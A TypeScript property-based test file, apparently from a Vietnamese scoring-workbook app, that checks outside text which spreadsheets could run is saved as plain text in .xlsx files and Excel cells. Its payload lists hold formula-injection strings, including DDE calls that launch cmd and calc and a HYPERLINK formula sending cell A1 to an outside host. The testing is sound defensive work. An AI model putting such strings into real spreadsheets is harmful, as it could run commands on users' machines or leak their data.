import fc from "fast-check";
import type { WorkbookDocument } from "../../src/council/types";
import { createFileWorkbook, openFileWorkbook } from "../../src/workbook/file/file-workbook";
import { readGrid } from "../../src/workbook/file/grid";
import { unpack } from "../../src/workbook/file/unpack";
import type { ScoringWorkbook, WorkbookEdit } from "../../src/workbook/port";
import { memberDocument, need, SEALED_AT, withSheet } from "../workbook/documents";
import { drawn } from "../workbook/excel/home";
import { emptyForms, inForms, reopened } from "../workbook/form/form-session";

jest.setTimeout(120_000);

/** How texts begin that a grid takes for a formula, a command to another program or a number. */
const BEGINNINGS = ["=", "+", "-", "@", "\t=", "==", "=-", "+=", "'=", "''@", "＝", "%", "|", "#", "0", "1/2", "TRUE"];
const BODIES = [
  "1+1",
  "cmd|' /C calc'!A0",
  'HYPERLINK("https://vi.du/?"&A1,"Xem")',
  "SUM(A1:A9)*cmd|'/C calc'!A0",
  'WEBSERVICE("https://vi.du")',
  'DDE("cmd";"/C calc";"a")',
  "84 205 000 001",
  "",
  "}",
  '","',
];

/** A text a grid could run. Blanks at either end of a line in a table are not kept, so none stands there. */
const attacks = fc
  .tuple(fc.constantFrom(...BEGINNINGS), fc.constantFrom(...BODIES))
  .map(([beginning, body]) => `${beginning}${body}`);

/** One product, so that many can be drawn. */
function small(): WorkbookDocument {
  const document = memberDocument();
  const products = document.session.products.slice(0, 1);
  return { ...document, session: { ...document.session, products }, sheets: document.sheets.slice(0, 1) };
}

const TEA = "20-06613-01-2026";
const SHEET = { product: TEA, member: "m1" };

/** Every text of a document that comes from outside, each another one. */
function textsOf(make: (at: number) => string): WorkbookDocument {
  let at = 0;
  const next = (): string => make(at++);
  const base = small();
  const { session } = base;
  const { meeting } = session;
  const whole: WorkbookDocument = {
    ...base,
    session: {
      ...session,
      meeting: { ...meeting, title: next(), province: next(), council: next(), place: next() },
      profile: { ...session.profile, source: next() },
      members: session.members.map((member) => ({ ...member, name: next(), title: next(), department: next() })),
      products: session.products.map((product) => ({
        ...product,
        ...{ name: next(), producer: next(), phone: next(), address: next() },
      })),
      evidence: session.evidence.map((record) => ({
        ...record,
        ...{ number: next(), issuer: next(), pages: next(), note: next() },
      })),
    },
    history: [{ at: SEALED_AT, ...SHEET, action: "reopened", detail: next(), sheet: null }],
  };
  return withSheet(whole, 0, (sheet) => ({
    ...sheet,
    comments: { "1.1": next(), "1.5": next() },
    opinion: next(),
    disqualifications: [{ knockOut: "dossier-1", reason: next() }],
  }));
}

/** What a person types into a sheet that is there already. */
const typed = (make: (at: number) => string): readonly WorkbookEdit[] => [
  { kind: "comment", sheet: SHEET, criterion: "1.2", text: make(50) },
  { kind: "opinion", sheet: SHEET, text: make(51) },
  { kind: "disqualify", sheet: SHEET, disqualifications: [{ knockOut: "dossier-2", reason: make(52) }] },
];

/** Every formula of a workbook with its place. */
function formulasOf(file: Uint8Array): readonly string[] {
  return need(readGrid(need(unpack(file, "phiếu.xlsx")))).sheets.flatMap(({ rows, ref }) =>
    rows.flatMap(({ number, cells }) =>
      cells.flatMap(({ column, formula }) =>
        formula === undefined ? [] : [`${ref} ${String(number)}:${String(column)} ${formula}`],
      ),
    ),
  );
}

async function worked(workbook: ScoringWorkbook, make: (at: number) => string): Promise<WorkbookDocument> {
  need(await workbook.apply(typed(make)));
  return need(await workbook.read()).document;
}

const harmless = (at: number): string => `chữ thường ${String(at)}`;
const among =
  (texts: readonly string[]) =>
  (at: number): string =>
    texts[at % texts.length] ?? "";
const someTexts = fc.array(attacks, { minLength: 7, maxLength: 7 });

describe("text from outside that a grid could run is written as text and comes back unchanged", () => {
  test("in a new .xlsx, and in one that is opened and worked in", async () => {
    const plain = need(await createFileWorkbook(textsOf(harmless)));
    await worked(plain, harmless);
    const formulas = formulasOf(need(await plain.save()));
    expect(formulas.length).toBeGreaterThan(50);
    await fc.assert(
      fc.asyncProperty(someTexts, async (texts) => {
        const make = among(texts);
        const start = textsOf(make);
        const fresh = need(await need(await createFileWorkbook(start)).save());
        const workbook = need(await openFileWorkbook(fresh, "phiếu.xlsx"));
        expect(need(await workbook.read()).document).toEqual(start);
        const after = await worked(workbook, make);
        const saved = need(await workbook.save());
        expect(need(await need(await openFileWorkbook(saved, "phiếu.xlsx")).read()).document).toEqual(after);
        expect(formulasOf(saved)).toEqual(formulas);
      }),
      { numRuns: 4 },
    );
  });

  test("in the cells of Excel, drawn or typed", async () => {
    const plain = await drawn(textsOf(harmless), { ceiling: "1.9" });
    await worked(plain.workbook, harmless);
    const formulas = formulasOf(await plain.host.save());
    expect(formulas.length).toBeGreaterThan(50);
    await fc.assert(
      fc.asyncProperty(someTexts, async (texts) => {
        const make = among(texts);
        const start = textsOf(make);
        const { workbook, host } = await drawn(start, { ceiling: "1.9" });
        expect(need(await workbook.read()).document).toEqual(start);
        const after = await worked(workbook, make);
        expect(after.sheets[0]?.opinion).toBe(make(51));
        const saved = await host.save();
        expect(formulasOf(saved)).toEqual(formulas);
        expect(need(await need(await openFileWorkbook(saved, "phiếu.xlsx")).read()).document).toEqual(after);
      }),
      { numRuns: 2 },
    );
  });

  test("in a province's own form", async () => {
    const blank = await emptyForms(small());
    const plain = need(await inForms(small(), blank));
    const formulas = formulasOf(need(await plain.save()));
    await fc.assert(
      fc.asyncProperty(someTexts, async (texts) => {
        const make = among(texts);
        const workbook = need(await inForms(textsOf(make), blank));
        const after = await worked(workbook, make);
        const saved = need(await workbook.save());
        expect(formulasOf(saved)).toEqual(formulas);
        expect(need(await need(await reopened(saved)).read()).document).toEqual(after);
      }),
      { numRuns: 4 },
    );
  });
});
